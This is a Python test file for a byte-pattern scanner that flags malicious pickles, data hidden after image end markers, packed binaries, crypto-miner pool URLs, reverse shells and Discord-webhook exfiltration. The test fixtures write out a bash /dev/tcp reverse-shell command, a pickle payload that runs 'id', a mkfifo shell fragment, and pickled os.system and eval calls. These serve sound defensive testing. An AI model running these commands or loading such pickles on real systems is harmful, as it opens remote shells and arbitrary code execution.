"""Patterns of bytes: pickled calls of every protocol, honest pickles, programs and pictures, in files of any size."""

from __future__ import annotations

import pickle
from collections.abc import Callable
from typing import Any

import pytest

from submissions.verification.engine.byte_patterns import byte_patterns, signs_of_bytes
from submissions.verification.engine.rules import RULES

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 60
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20 + b"IEND\xaeB`\x82"
PROTOCOLS = range(pickle.HIGHEST_PROTOCOL + 1)


class Calls:
    """Something that is pickled as a call; it is never loaded here."""

    def __init__(self, function: Callable[..., Any]) -> None:
        self.function = function

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str, ...]]:
        return self.function, ("true",)


def rules_in(data: bytes, file: str = "data.bin") -> list[str]:
    return [one.rule for one in byte_patterns(data, file)]


@pytest.mark.parametrize("protocol", PROTOCOLS)
@pytest.mark.parametrize("name", ["os.system", "subprocess.run", "builtins.eval", "builtins.exec", "runpy.run_path"])
def test_a_pickled_call_of_the_system_is_found_in_every_protocol(protocol: int, name: str) -> None:
    module, _, function = name.partition(".")
    calls = Calls(getattr(__import__(module), function))
    for value in (calls, {"weights": [1, 2], "later": calls}, [calls, calls]):
        assert rules_in(pickle.dumps(value, protocol)) == ["data-runs-code"]


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_a_pickle_that_names_the_system_in_words_alone_is_honest(protocol: int) -> None:
    honest = {"os": "system", "subprocess": ["run"], "builtins": "eval", "values": (1.5, b"bytes", None)}
    assert rules_in(pickle.dumps(honest, protocol)) == []


def test_a_pickled_call_within_another_file_is_found() -> None:
    array = b"\x93NUMPY\x01\x00v\x00{'descr': '|O'}\n" + pickle.dumps([Calls(eval)], 4)
    assert rules_in(array) == ["data-runs-code"]


def test_a_document_about_pickles_is_no_pickle() -> None:
    assert rules_in(b"A payload such as\n\ncposix\nsystem\n(S'id'\ntR.\n\nruns a command.\n") == []


@pytest.mark.parametrize("more", [b"PK\x03\x04", b"\n\x7fELF", b"\0\0#!/bin/sh", b"\x1f\x8b\x08"])
def test_what_follows_the_end_of_a_picture_is_found(more: bytes) -> None:
    for picture in (PNG, b"\xff\xd8\xff\xe0" + b"\0" * 20 + b"\xff\xd9", b"GIF89a" + b"\0" * 20 + b"\0;"):
        assert rules_in(picture) == []
        assert rules_in(picture + more) == ["picture-carries-more"]


@pytest.mark.parametrize(
    ("inside", "rule"),
    [
        (b"UPX!\x0d", "program-packed"),
        (b"stratum+tcp://pool.invalid:3333", "miner"),
        (b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "reverse-shell"),
        (b"https://discord.com/api/webhooks/123456789/abcdefghij-abcdefghij", "data-to-drop"),
    ],
)
def test_a_program_is_known_by_what_it_carries_and_a_text_is_left_to_the_other_rules(inside: bytes, rule: str) -> None:
    assert rules_in(ELF + inside) == [rule]
    assert rules_in(ELF + b"plain words") == []
    assert rules_in(b"plain words " + inside) == []


def test_each_pattern_is_a_sign_of_a_rule_and_shows_its_bytes_safely() -> None:
    [sign] = signs_of_bytes(list(byte_patterns(ELF + b"UPX!\x0d", "tool")))
    assert sign.name in RULES
    assert sign.place == ("tool", 1)
    assert sign.excerpt == "at byte 67: UPX!"


@pytest.mark.parametrize(
    "data",
    [
        b"\x80" + b"cos\n" * 300_000 + b".",
        b"\x80" + b"\x8c\x02os" * 300_000 + b".",
        ELF + b"mkfifo /tmp/a; cat /tmp/a " * 40_000,
        PNG + b"IEND\xaeB`\x82" * 100_000,
        ELF + b"discord.com/api/webhooks/1234567/" * 30_000,
    ],
)
def test_a_file_made_of_beginnings_of_patterns_is_looked_at_to_its_end(data: bytes) -> None:
    assert rules_in(data) == []
